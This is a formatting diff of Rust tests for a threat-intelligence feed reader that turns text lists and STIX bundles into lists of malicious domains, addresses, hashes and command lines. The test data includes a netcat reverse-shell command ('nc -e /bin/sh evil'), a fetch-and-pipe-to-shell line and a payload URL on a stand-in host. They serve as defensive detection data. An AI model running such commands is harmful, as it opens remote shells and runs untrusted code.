@@ -35,7 +35,10 @@ fn a_plain_file_feeds_the_list_that_it_is_called_after() {
         (".hidden.txt", "not a list"),
     ]);
     assert_eq!(list(&read, "malicious_domains"), ["*.third.example", "bad.test", "evil.example"]);
-    assert_eq!(list(&read, "malicious_addresses"), ["192.0.2.7", "198.51.100.0/24", "2001:db8::/32"]);
+    assert_eq!(
+        list(&read, "malicious_addresses"),
+        ["192.0.2.7", "198.51.100.0/24", "2001:db8::/32"]
+    );
     assert_eq!(list(&read, "malicious_command_lines"), ["curl x # not a comment | sh"]);
     assert_eq!(list(&read, "malicious_hashes").len(), 1);
     assert_eq!(list(&read, "our_words"), ["any text, \"as it is\""]);
@@ -56,7 +59,10 @@ fn a_line_that_can_t_be_used_is_left_out_and_named() {
     assert!(told.contains("malicious_domains.txt:2: `http://x/` is no domain"), "{told}");
     assert!(told.contains("malicious_domains.txt:3: `localhost` is no domain"), "{told}");
     assert!(told.contains("malicious_domains.txt: 82 more can't be used"), "{told}");
-    assert!(told.contains("malicious_addresses.txt:1: `0.0.0.0/0` is the network of all"), "{told}");
+    assert!(
+        told.contains("malicious_addresses.txt:1: `0.0.0.0/0` is the network of all"),
+        "{told}"
+    );
     assert!(told.contains("malicious_command_lines.txt:1: `sh` is too short"), "{told}");
 }
 
@@ -82,7 +88,11 @@ fn the_indicators_of_a_bundle_feed_the_lists_of_their_kinds() {
         indicator(3, &format!("[file:hashes.'SHA-256' = '{hash}']"), ""),
         indicator(4, "[process:command_line = 'nc -e /bin/sh evil']", ""),
         indicator(5, "[url:value = 'http://evil.example/x.sh']", ""),
-        indicator(6, "[ipv4-addr:value = '198.51.100.9']", ", \"indicator_types\": [\"anonymization\"]"),
+        indicator(
+            6,
+            "[ipv4-addr:value = '198.51.100.9']",
+            ", \"indicator_types\": [\"anonymization\"]",
+        ),
         "{\"type\": \"malware\", \"id\": \"malware--1\", \"is_family\": false}".to_owned(),
     ];
     let read = of(&[("feed.json", &bundle(&objects))]);
@@ -90,17 +100,28 @@ fn the_indicators_of_a_bundle_feed_the_lists_of_their_kinds() {
     assert_eq!(list(&read, "malicious_domains"), ["evil.example"]);
     assert_eq!(list(&read, "malicious_addresses"), ["192.0.2.7", "2001:db8::7"]);
     assert_eq!(list(&read, "malicious_hashes"), [hash.as_str()]);
-    assert_eq!(list(&read, "malicious_command_lines"), ["http://evil.example/x.sh", "nc -e /bin/sh evil"]);
+    assert_eq!(
+        list(&read, "malicious_command_lines"),
+        ["http://evil.example/x.sh", "nc -e /bin/sh evil"]
+    );
     assert_eq!(list(&read, "anonymising_addresses"), ["198.51.100.9"]);
 }
 
 #[test]
 fn indicators_that_are_not_in_force_are_passed_over() {
     let objects = [
-        indicator(1, "[domain-name:value = 'a.example']", ", \"valid_until\": \"2024-02-01T00:00:00.000Z\""),
+        indicator(
+            1,
+            "[domain-name:value = 'a.example']",
+            ", \"valid_until\": \"2024-02-01T00:00:00.000Z\"",
+        ),
         indicator(2, "[domain-name:value = 'b.example']", ", \"revoked\": true"),
         indicator(3, "[domain-name:value = 'c.example']", ", \"indicator_types\": [\"benign\"]"),
-        indicator(4, "[domain-name:value = 'd.example']", ", \"valid_until\": \"2124-02-01T00:00:00Z\""),
+        indicator(
+            4,
+            "[domain-name:value = 'd.example']",
+            ", \"valid_until\": \"2124-02-01T00:00:00Z\"",
+        ),
     ];
     let read = of(&[("feed.json", &bundle(&objects))]);
     assert_eq!(list(&read, "malicious_domains"), ["d.example"]);
@@ -141,7 +162,10 @@ fn what_is_no_bundle_is_an_error_that_names_the_file() {
     ] {
         let folder = folder(&[("feed.json", text)]);
         let error = ThreatIntelligence::read(&[folder.path().to_owned()]).unwrap_err().to_string();
-        assert!(error.contains("feed.json is no bundle of STIX 2.1: ") && error.contains(reason), "{error}");
+        assert!(
+            error.contains("feed.json is no bundle of STIX 2.1: ") && error.contains(reason),
+            "{error}"
+        );
     }
     let error = ThreatIntelligence::read(&["/nowhere/feed.txt".into()]).unwrap_err().to_string();
     assert!(error.starts_with("cannot read /nowhere/feed.txt"), "{error}");
@@ -232,7 +256,8 @@ fn a_hundred_thousand_values_of_each_kind_are_compiled_and_looked_up() {
         let _ = writeln!(addresses, "198.{}.{c}.{d}", 16 + b);
     }
     let (before, begin) = (resident(), Instant::now());
-    let rules = rules(&[("malicious_domains.txt", &domains), ("malicious_addresses.txt", &addresses)]);
+    let rules =
+        rules(&[("malicious_domains.txt", &domains), ("malicious_addresses.txt", &addresses)]);
     let engine = Engine::compile(rules);
     let (took, grown) = (begin.elapsed(), resident().saturating_sub(before));
     let begin = Instant::now();
